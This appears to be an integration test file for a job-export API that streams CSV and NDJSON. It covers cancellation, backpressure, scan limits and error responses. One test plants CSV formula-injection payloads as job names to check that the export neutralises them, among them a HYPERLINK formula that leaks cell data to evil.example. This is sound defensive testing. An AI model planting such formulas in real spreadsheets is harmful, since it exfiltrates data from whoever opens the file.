import { EXPORT_COLUMNS } from '@/lib/jobs/export-columns';
import { control, readStats, resetFaults, resetStats, setFaults } from '@/harness/emulator-control';
import type { PortalProcess } from '@/harness/portal-process';
import { startPortalAgainst, startPortalStack, type PortalStack } from '@/harness/portal-stack';
import { parseCsv } from '../support/csv';

// GET /api/jobs/export through the real standalone portal against the emulator process: the files'
// contents next to a plain crawl of /api/jobs, formula cells, failures that must show, a cancelled
// download that must stop upstream calls, a stalled one that must hold them, bounds, and 400s.

let stack: PortalStack;
/** The same emulator behind a portal with small bounds: SCAN_MAX_JOBS=100, SCAN_MAX_DAYS=2. */
let bounded: PortalProcess;
const DAY = 86_400_000;
const iso = (ms: number) => new Date(Math.floor(ms / 1000) * 1000).toISOString().replace('.000Z', 'Z');
const compact = (time: string) => time.replace(/[-:]/g, '');
let nowMs: number;

beforeAll(async () => {
  // 100,000 jobs, most of them recent: enough pages that a stalled or cancelled download is visibly cut short.
  stack = await startPortalStack({ emulatorArgs: ['--jobs', '100000', '--seed', '12'], portalEnv: { ICE_TIMEOUT_MS: '3000' } });
  bounded = await startPortalAgainst(stack.emulator.url, { AUTH_MODE: 'none', AUTH_RATE_LIMIT_PER_MINUTE: '100000', SCAN_MAX_JOBS: '100', SCAN_MAX_DAYS: '2' });
  nowMs = Date.now();
});

afterAll(async () => {
  await bounded?.stop();
  await stack?.stop();
});

beforeEach(async () => {
  await resetFaults(stack.emulator.url);
  await resetStats(stack.emulator.url);
});

const api = (path: string, init?: RequestInit) => fetch(`${stack.portal.url}${path}`, init);
const query = (params: Record<string, string>) => new URLSearchParams(params).toString();

/** The baseline: every page of /api/jobs with the same filters, one after the other. */
async function crawl(filters: Record<string, string>): Promise<Record<string, unknown>[]> {
  const jobs: Record<string, unknown>[] = [];
  let token: string | undefined;
  do {
    const res = await api(`/api/jobs?${query({ ...filters, PageSize: '100', ...(token ? { NextPageToken: token } : {}) })}`);
    expect(res.status).toBe(200);
    const page = (await res.json()) as { Jobs: Record<string, unknown>[]; NextPageToken?: string };
    jobs.push(...page.Jobs);
    token = page.NextPageToken;
  } while (token);
  return jobs;
}

const utf8 = (bytes: ArrayBuffer | Uint8Array) => new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
const ndjsonLines = (text: string) => text.trimEnd().split('\n').map((line) => JSON.parse(line) as Record<string, unknown>);

/** Reads a body to its end; rejects when the connection breaks before a clean end. */
async function readToEnd(res: Response): Promise<string> {
  return utf8(await res.arrayBuffer());
}

/** The first chunk, then the reader, for tests that act mid-download. */
async function firstChunk(res: Response) {
  const reader = res.body!.getReader();
  const first = await reader.read();
  expect(first.done).toBe(false);
  return { reader, first: first.value! };
}

async function restOf(reader: ReadableStreamDefaultReader<Uint8Array>, first: Uint8Array): Promise<string> {
  const chunks = [first];
  for (let read = await reader.read(); !read.done; read = await reader.read()) chunks.push(read.value);
  return utf8(Buffer.concat(chunks));
}

describe('GET /api/jobs/export?Format=csv', () => {
  it('sends a BOM, one header row and one row per job of a plain crawl, in a file named for what it holds', async () => {
    const filters = { Status: 'Fail', StartOfCreateTime: iso(nowMs - 3 * DAY), EndOfCreateTime: iso(nowMs) };
    const expected = await crawl(filters);
    expect(expected.length).toBeGreaterThan(200);
    const res = await api(`/api/jobs/export?${query({ ...filters, Format: 'csv' })}`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('cache-control')).toBe('private, no-store');
    expect(res.headers.get('content-disposition')).toBe(
      `attachment; filename="media-info-jobs_Fail_${compact(filters.StartOfCreateTime)}_${compact(filters.EndOfCreateTime)}.csv"`,
    );
    expect(res.headers.get('x-scan-window')).toBe(`${filters.StartOfCreateTime}/${filters.EndOfCreateTime}`);
    expect(res.headers.get('x-request-id')).toMatch(/^[0-9a-f-]{36}$/);
    const bytes = new Uint8Array(await res.clone().arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);

    const [header, ...rows] = parseCsv(utf8(bytes).slice(1));
    expect(header).toEqual([...EXPORT_COLUMNS]);
    expect(rows.map((row) => row[0])).toEqual(expected.map((job) => job.JobId));
    const column = (name: (typeof EXPORT_COLUMNS)[number]) => EXPORT_COLUMNS.indexOf(name);
    rows.forEach((row, i) => {
      const job = expected[i] as { Status: string; SubmitResultJson?: { Code?: string }; Input?: { Media?: string } };
      expect(row[column('Status')]).toBe('Fail');
      expect(row[column('Failure code')]).toBe(job.SubmitResultJson?.Code ?? '');
      expect(row[column('Input')]).toMatch(new RegExp(`^'?${escapeRegExp(job.Input?.Media ?? '')}$`));
    });
  });

  it('neutralises cells that would start a formula, and keeps CJK names readable as UTF-8', async () => {
    // Planted 100 days back, where the seeded dataset has no jobs: the export holds exactly these.
    const at = Math.floor((nowMs - 100 * DAY) / 1000) * 1000;
    const names = ['=HYPERLINK("http://evil.example/?leak="&A1,"open me")', '-1', '+1', '@SUM(A1:A9)', '\tcmd', '会议录像：第一集'];
    for (const [i, Name] of names.entries()) {
      const submitted = at + i * 1000;
      const job = { JobId: `hostile${i}`, Name, Status: 'Success', SubmitTime: iso(submitted), FinishTime: new Date(submitted + 2500).toISOString(), Input: { Type: 'OSS', Media: `oss://bucket/${i}.mp4` } };
      expect((await control(stack.emulator.url, 'POST', 'jobs', job)).status).toBe(201);
    }
    const res = await api(`/api/jobs/export?${query({ StartOfCreateTime: iso(at - 1000), EndOfCreateTime: iso(at + 60_000), OrderBy: 'CreateTimeAsc', Format: 'csv' })}`);
    const text = await readToEnd(res);
    const rows = parseCsv(text.slice(1)).slice(1);
    expect(rows.map((row) => row[1])).toEqual([...names.slice(0, 5).map((name) => `'${name}`), '会议录像：第一集']);
    // Processing seconds are the portal's own number, never quoted away.
    expect(rows.map((row) => row[EXPORT_COLUMNS.indexOf('Processing (s)')])).toEqual(names.map(() => '2.5'));
    expect(Buffer.from(text, 'utf8').includes(Buffer.from('会议录像', 'utf8'))).toBe(true);
  });

  it('breaks the connection when ICE fails for good mid-export, never ending as a clean short file', async () => {
    await setFaults(stack.emulator.url, { latencyMs: 40 });
    const res = await api(`/api/jobs/export?${query({ Format: 'csv' })}`);
    expect(res.status).toBe(200);
    const { reader, first } = await firstChunk(res);
    await setFaults(stack.emulator.url, { latencyMs: 40, rates: { internalError: 1 } as never });
    await expect(restOf(reader, first)).rejects.toThrow();
    const requestId = res.headers.get('x-request-id')!;
    await waitFor(() => stack.portal.output().includes(`"requestId":"${requestId}","format":"csv","outcome":"failed"`));
  });
});

describe('GET /api/jobs/export?Format=ndjson', () => {
  it('sends every job exactly as a plain crawl of the same filters returns it, then the summary line', async () => {
    const filters = { Status: 'Success', StartOfCreateTime: iso(nowMs - 20 * DAY), EndOfCreateTime: iso(nowMs - 10 * DAY), OrderBy: 'CreateTimeAsc' };
    const expected = await crawl(filters);
    expect(expected.length).toBeGreaterThan(500);
    const res = await api(`/api/jobs/export?${query({ ...filters, Format: 'ndjson' })}`);
    expect(res.headers.get('content-type')).toBe('application/x-ndjson');
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="media-info-jobs_Success_\d{8}T\d{6}Z_\d{8}T\d{6}Z\.ndjson"$/);
    const lines = ndjsonLines(await readToEnd(res));
    expect(lines.slice(0, -1)).toEqual(expected);
    expect(lines.at(-1)).toEqual({
      Summary: { ScannedJobs: expected.length, ExportedJobs: expected.length, Window: { StartOfCreateTime: filters.StartOfCreateTime, EndOfCreateTime: filters.EndOfCreateTime }, Source: { Kind: 'ice' } },
      summary: { scannedJobs: expected.length, exportedJobs: expected.length, from: filters.StartOfCreateTime, to: filters.EndOfCreateTime },
    });
  });

  it("holds only what the list's search shows, over the search's own default window, and says so in its name", async () => {
    const at = Math.floor((nowMs - 2 * DAY) / 1000) * 1000;
    const needles = ['needle-ep12_final.mov', 'NEEDLE-ep12_final.mp4'];
    for (const [i, name] of needles.entries()) {
      const job = { JobId: `needle${i}`, Name: name, Status: 'Success', SubmitTime: iso(at + i * 1000), Input: { Type: 'OSS', Media: `oss://bucket/${name}` } };
      expect((await control(stack.emulator.url, 'POST', 'jobs', job)).status).toBe(201);
    }
    const res = await api(`/api/jobs/export?${query({ Search: 'needle-ep12', Format: 'ndjson' })}`);
    const [from, to] = res.headers.get('x-scan-window')!.split('/');
    expect(Date.parse(to!) - Date.parse(from!)).toBe(7 * DAY);
    expect(res.headers.get('content-disposition')).toMatch(/filename="media-info-jobs_all_search_\d{8}T\d{6}Z_\d{8}T\d{6}Z\.ndjson"/);
    const lines = ndjsonLines(await readToEnd(res));
    expect(lines.slice(0, -1).map((line) => line.JobId)).toEqual(['needle1', 'needle0']);
    expect(lines.at(-1)).toMatchObject({ summary: { scannedJobs: expect.any(Number), exportedJobs: 2, from, to } });
    expect((lines.at(-1)!.summary as { scannedJobs: number }).scannedJobs).toBeGreaterThan(1000);
  });

  it('ends with an error line, with ICE\'s request id, when ICE fails for good mid-export', async () => {
    await setFaults(stack.emulator.url, { latencyMs: 40 });
    const res = await api(`/api/jobs/export?${query({ Format: 'ndjson' })}`);
    const { reader, first } = await firstChunk(res);
    await setFaults(stack.emulator.url, { latencyMs: 40, rates: { internalError: 1 } as never });
    const lines = ndjsonLines(await restOf(reader, first));
    expect(lines.length).toBeGreaterThan(1);
    expect(lines.at(-1)).toEqual({ error: { code: 'upstream_unavailable', message: expect.stringContaining('ICE failed'), requestId: expect.stringMatching(/^[0-9A-F-]{36}$/) } });
    expect(lines.slice(0, -1).every((line) => typeof line.JobId === 'string')).toBe(true);
  });
});

describe('GET /api/jobs/export: the download and the upstream calls', () => {
  it('answers a real error status, not a broken file, when ICE fails before the first job', async () => {
    await setFaults(stack.emulator.url, { rates: { internalError: 1 } as never });
    // Filters no other test reads, so no page is served from the client's one-second reuse.
    const res = await api(`/api/jobs/export?${query({ Status: 'Success', StartOfCreateTime: iso(nowMs - 40 * DAY), EndOfCreateTime: iso(nowMs - 39 * DAY), Format: 'csv' })}`);
    expect(res.status).toBe(502);
    expect(res.headers.get('content-type')).toContain('application/json');
    expect(((await res.json()) as { error: { code: string; requestId: string } }).error).toMatchObject({ code: 'upstream_unavailable', requestId: expect.any(String) });
  });

  it('stops calling ICE when the download is cancelled', async () => {
    await setFaults(stack.emulator.url, { latencyMs: 60 });
    const download = new AbortController();
    const res = await api(`/api/jobs/export?${query({ Format: 'ndjson' })}`, { signal: download.signal });
    await firstChunk(res);
    download.abort();
    await new Promise((r) => setTimeout(r, 300));
    const afterCancel = (await readStats(stack.emulator.url)).requests;
    await new Promise((r) => setTimeout(r, 600));
    expect((await readStats(stack.emulator.url)).requests).toBe(afterCancel);
    // Of the hundreds of pages the filters hold, only those read before the cancel (and a few ahead).
    expect(afterCancel).toBeLessThan(40);
    const requestId = res.headers.get('x-request-id')!;
    await waitFor(() => stack.portal.output().includes(`"requestId":"${requestId}","format":"ndjson","outcome":"cancelled"`));
  });

  it('holds its upstream calls while the client does not read (backpressure through the server)', async () => {
    const res = await api(`/api/jobs/export?${query({ Format: 'ndjson' })}`);
    const { reader } = await firstChunk(res);
    await waitFor(async () => {
      const before = (await readStats(stack.emulator.url)).requests;
      await new Promise((r) => setTimeout(r, 300));
      return (await readStats(stack.emulator.url)).requests === before;
    });
    const stalled = (await readStats(stack.emulator.url)).requests;
    // The socket's buffers hold some MB of lines; the scan then waits, far short of the ~500 pages there are.
    expect(stalled).toBeLessThan(150);
    await reader.cancel();
  });

  it('writes the audit line when the download starts, under the request id of the response', async () => {
    const res = await api(`/api/jobs/export?${query({ Status: 'Init', Format: 'csv' })}`);
    await readToEnd(res);
    const requestId = res.headers.get('x-request-id')!;
    await waitFor(() => stack.portal.output().includes(`"event":"export_end","requestId":"${requestId}","format":"csv","outcome":"complete"`));
    const audit = stack.portal.output().split('\n').find((line) => line.includes('"event":"audit"') && line.includes(requestId));
    expect(JSON.parse(audit!)).toMatchObject({ route: '/api/jobs/export', params: { Status: 'Init', Format: 'csv' }, status: 200 });
  });
});

describe('GET /api/jobs/export: bounds', () => {
  const bapi = (params: Record<string, string>) => fetch(`${bounded.url}/api/jobs/export?${query(params)}`);

  it('stops at SCAN_MAX_JOBS and says so: the NDJSON summary line, the CSV last row', async () => {
    const filters = { StartOfCreateTime: iso(nowMs - DAY), EndOfCreateTime: iso(nowMs) };
    const lines = ndjsonLines(await readToEnd(await bapi({ ...filters, Format: 'ndjson' })));
    expect(lines).toHaveLength(101);
    expect(lines[100]).toEqual({
      Summary: {
        ScannedJobs: 100,
        ExportedJobs: 100,
        Window: { StartOfCreateTime: filters.StartOfCreateTime, EndOfCreateTime: filters.EndOfCreateTime },
        Stopped: { Reason: 'max_jobs', At: lines[99]!.SubmitTime },
        Source: { Kind: 'ice' },
      },
      summary: { scannedJobs: 100, exportedJobs: 100, from: filters.StartOfCreateTime, to: filters.EndOfCreateTime, stopped: { reason: 'max_jobs', at: lines[99]!.SubmitTime } },
    });
    const rows = parseCsv((await readToEnd(await bapi({ ...filters, Format: 'csv' }))).slice(1));
    expect(rows).toHaveLength(1 + 100 + 1);
    expect(rows[101]![0]).toMatch(/^# stopped at SCAN_MAX_JOBS after reading 100 jobs .*narrow the filters/);
    expect(rows[101]!.slice(1).every((cell) => cell === '')).toBe(true);
  });

  it('covers at most SCAN_MAX_DAYS of a longer range, names that window up front, and says so at the end', async () => {
    // Before the seeded dataset's 90 days: one job inside the newest 2 days of the range, one outside.
    const filters = { Status: 'Fail', StartOfCreateTime: iso(nowMs - 120 * DAY), EndOfCreateTime: iso(nowMs - 110 * DAY) };
    const cut = iso(Date.parse(filters.EndOfCreateTime) - 2 * DAY);
    for (const [JobId, daysBack] of [['insidewindow', 111], ['outsidewindow', 115]] as const) {
      const job = { JobId, Status: 'Fail', SubmitTime: iso(nowMs - daysBack * DAY), SubmitResultJson: { Code: 'InvalidParameter.ResourceNotFound' } };
      expect((await control(stack.emulator.url, 'POST', 'jobs', job)).status).toBe(201);
    }
    const res = await bapi({ ...filters, Format: 'ndjson' });
    expect(res.headers.get('x-scan-window')).toBe(`${cut}/${filters.EndOfCreateTime}`);
    expect(res.headers.get('content-disposition')).toContain(`media-info-jobs_Fail_${compact(cut)}_${compact(filters.EndOfCreateTime)}.ndjson`);
    const lines = ndjsonLines(await readToEnd(res));
    expect(lines.map((line) => line.JobId)).toEqual(['insidewindow', undefined]);
    expect(lines.at(-1)).toEqual({
      Summary: { ScannedJobs: 1, ExportedJobs: 1, Window: { StartOfCreateTime: cut, EndOfCreateTime: filters.EndOfCreateTime }, Stopped: { Reason: 'max_days', At: cut }, Source: { Kind: 'ice' } },
      summary: { scannedJobs: 1, exportedJobs: 1, from: cut, to: filters.EndOfCreateTime, stopped: { reason: 'max_days', at: cut } },
    });
    const csv = parseCsv((await readToEnd(await bapi({ ...filters, Format: 'csv' }))).slice(1));
    expect(csv.at(-1)![0]).toContain(`# stopped at SCAN_MAX_DAYS: only jobs created ${cut} to ${filters.EndOfCreateTime}`);
  });
});

describe('GET /api/jobs/export: refusals', () => {
  it.each([
    ['', 'Format'],
    ['Format=xlsx', 'Format'],
    ['Format=csv&Format=ndjson', 'Format'],
    ['Format=csv&Status=Done', 'Status'],
    ['Format=ndjson&StartOfCreateTime=2024-13-01T00:00:00Z', 'StartOfCreateTime'],
    ['Format=csv&OrderBy=Newest', 'OrderBy'],
    ['Format=csv&PageSize=50', 'PageSize'],
    ['Format=csv&NextPageToken=abc', 'NextPageToken'],
    ['Format=csv&MaxHeight=0', 'MaxHeight'],
  ])('answers %j with a 400 naming %s, without calling ICE', async (search, field) => {
    const res = await api(`/api/jobs/export?${search}`);
    expect(res.status).toBe(400);
    expect(res.headers.get('cache-control')).toBe('private, no-store');
    expect(((await res.json()) as { error: { code: string; field: string } }).error).toMatchObject({ code: 'invalid_input', field });
    expect((await readStats(stack.emulator.url)).requests).toBe(0);
  });

  it('answers 405 to anything but GET', async () => {
    const res = await api('/api/jobs/export?Format=csv', { method: 'POST', headers: { origin: stack.portal.url } });
    expect(res.status).toBe(405);
    expect(res.headers.get('allow')).toContain('GET');
  });

  it('answers HEAD with a 405 and no walk, since Next.js would otherwise run the whole export for it', async () => {
    await resetStats(stack.emulator.url);
    const res = await api('/api/jobs/export?Format=csv', { method: 'HEAD' });
    expect(res.status).toBe(405);
    expect((await readStats(stack.emulator.url)).requests).toBe(0);
  });
});

function escapeRegExp(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}

async function waitFor(check: () => boolean | Promise<boolean>, timeoutMs = 5000): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!(await check())) {
    if (Date.now() > deadline) throw new Error('timed out waiting for a condition');
    await new Promise((r) => setTimeout(r, 50));
  }
}
